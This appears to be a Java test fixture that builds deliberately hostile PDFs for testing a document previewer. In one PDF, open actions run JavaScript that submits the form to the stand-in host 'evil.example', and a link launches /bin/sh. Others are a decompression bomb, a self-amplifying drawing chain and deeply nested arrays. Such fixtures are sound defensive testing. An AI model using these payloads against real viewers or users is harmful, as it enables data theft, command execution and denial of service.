package org.millrace.preview;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/** PDFs as nobody's report is: each asks for more than anybody may have, or does what none may. */
public final class HostilePdf {
  private HostilePdf() {}

  /** A PDF of these objects, numbered from 1; the first is the catalogue. */
  static byte[] of(List<String> objects) {
    StringBuilder text = new StringBuilder("%PDF-1.7\n");
    List<Integer> offsets = new ArrayList<>();
    for (int i = 0; i < objects.size(); i++) {
      offsets.add(text.length());
      text.append(i + 1).append(" 0 obj\n").append(objects.get(i)).append("\nendobj\n");
    }
    int start = text.length();
    text.append("xref\n0 ").append(objects.size() + 1).append("\n0000000000 65535 f \n");
    offsets.forEach(
        each -> text.append(String.format(java.util.Locale.ROOT, "%010d 00000 n \n", each)));
    text.append("trailer\n<< /Size ").append(objects.size() + 1).append(" /Root 1 0 R >>\n");
    text.append("startxref\n").append(start).append("\n%%EOF\n");
    return text.toString().getBytes(StandardCharsets.ISO_8859_1);
  }

  static String stream(String dictionary, String content) {
    return "<< "
        + dictionary
        + " /Length "
        + content.length()
        + " >>\nstream\n"
        + content
        + "\nendstream";
  }

  private static byte[] page(String mediaBox, String resources, String content, String... more) {
    List<String> objects = new ArrayList<>();
    objects.add("<< /Type /Catalog /Pages 2 0 R >>");
    objects.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
    objects.add(
        "<< /Type /Page /Parent 2 0 R /MediaBox ["
            + mediaBox
            + "] /Resources << "
            + resources
            + " >> /Contents 4 0 R >>");
    objects.add(stream("", content));
    objects.addAll(List.of(more));
    return of(objects);
  }

  private static final String HELVETICA =
      "/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>";

  /** A page of a report, in a font that is not in it. */
  public static byte[] report(String text) {
    return page(
        "0 0 595 842", HELVETICA, "BT /F1 18 Tf 60 760 Td (" + text + ") Tj ET 60 700 200 40 re f");
  }

  /** Opens with a script, a link, an external file and a form that sends itself. */
  public static byte[] script() {
    String action =
        "<< /S /JavaScript /JS (app.alert(1); this.submitForm('http://evil.example')) >>";
    return of(
        List.of(
            "<< /Type /Catalog /Pages 2 0 R /OpenAction "
                + action
                + " /AA << /WC "
                + action
                + " >> >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << "
                + HELVETICA
                + " >> /Contents 4 0 R /AA << /O "
                + action
                + " >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F"
                + " (/bin/sh) >> >>] >>",
            stream("", "BT /F1 18 Tf 60 760 Td (A report) Tj ET")));
  }

  static byte[] ofSize(String mediaBox) {
    return page(mediaBox, HELVETICA, "BT /F1 18 Tf 60 760 Td (Large) Tj ET");
  }

  /** Nothing but pages. */
  public static byte[] threePages() {
    return manyPages(3);
  }

  static byte[] manyPages(int count) {
    List<String> objects = new ArrayList<>();
    objects.add("<< /Type /Catalog /Pages 2 0 R >>");
    objects.add("<< /Type /Pages /Kids [" + "3 0 R ".repeat(count) + "] /Count " + count + " >>");
    objects.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>");
    return of(objects);
  }

  /** Arrays in arrays. */
  static byte[] nested(int depth) {
    return of(
        List.of(
            "<< /Type /Catalog /Pages 2 0 R /Deep " + "[".repeat(depth) + "]".repeat(depth) + " >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>"));
  }

  /** Twelve drawings, each of which draws the next one twelve times. */
  static byte[] endless() {
    List<String> objects = new ArrayList<>();
    objects.add("<< /Type /Catalog /Pages 2 0 R >>");
    objects.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
    objects.add(
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /X 5 0 R >>"
            + " >> /Contents 4 0 R >>");
    objects.add(stream("", "/X Do"));
    for (int i = 0; i < 12; i++) {
      String form = "/Type /XObject /Subtype /Form /BBox [0 0 595 842] ";
      objects.add(
          i == 11
              ? stream(form, "0 0 595 842 re f")
              : stream(
                  form + "/Resources << /XObject << /X " + (6 + i) + " 0 R >> >>",
                  "/X Do ".repeat(12)));
    }
    return of(objects);
  }

  /** An image of a few kilobytes that is gigabytes once it is unpacked. */
  static byte[] bomb(int side) {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (DeflaterOutputStream out = new DeflaterOutputStream(packed, new Deflater(9))) {
      byte[] line = new byte[side];
      for (int i = 0; i < side * 3; i++) {
        out.write(line);
      }
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
    String data = packed.toString(StandardCharsets.ISO_8859_1);
    return page(
        "0 0 595 842",
        "/XObject << /X 5 0 R >>",
        "500 0 0 500 0 0 cm /X Do",
        stream(
            "/Type /XObject /Subtype /Image /Width "
                + side
                + " /Height "
                + side
                + " /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode",
            data));
  }

  /** A scan as JPEG. */
  static byte[] scan(byte[] jpeg, int width, int height) {
    return scan(
        jpeg, width, height, "/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode");
  }

  /**
   * A scan as JBIG2, black but for the left upper quarter: a page that is black (segment type 48),
   * and on it a region of twenty times fifteen white dots (type 38, coded by ITU-T T.6).
   *
   * <p>Source: ITU-T T.88 §7.2, §7.4.6, §7.4.8.
   */
  static byte[] fax() {
    String page = "00000000 30 00 01 00000013" + "00000028 0000001e 00000000 00000000 44 0000";
    String region =
        "00000001 26 00 01 00000017" + "00000014 0000000f 00000000 00000000 04 01 fffe002002";
    return scan(
        HexFormat.of().parseHex((page + region).replace(" ", "")),
        40,
        30,
        "/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode");
  }

  /**
   * @param coding of the image, as its dictionary tells it
   */
  private static byte[] scan(byte[] image, int width, int height, String coding) {
    return page(
        "0 0 595 842",
        "/XObject << /X 5 0 R >>",
        "595 0 0 842 0 0 cm /X Do",
        stream(
            "/Type /XObject /Subtype /Image /Width " + width + " /Height " + height + " " + coding,
            new String(image, StandardCharsets.ISO_8859_1)));
  }

  /** A scan as JPEG 2000, which cannot be drawn here. */
  static byte[] withoutDecoder() {
    return page(
        "0 0 595 842",
        "/XObject << /X 5 0 R >>",
        "500 0 0 500 0 0 cm /X Do",
        stream(
            "/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray"
                + " /BitsPerComponent 8 /Filter /JPXDecode",
            "not a picture"));
  }
}
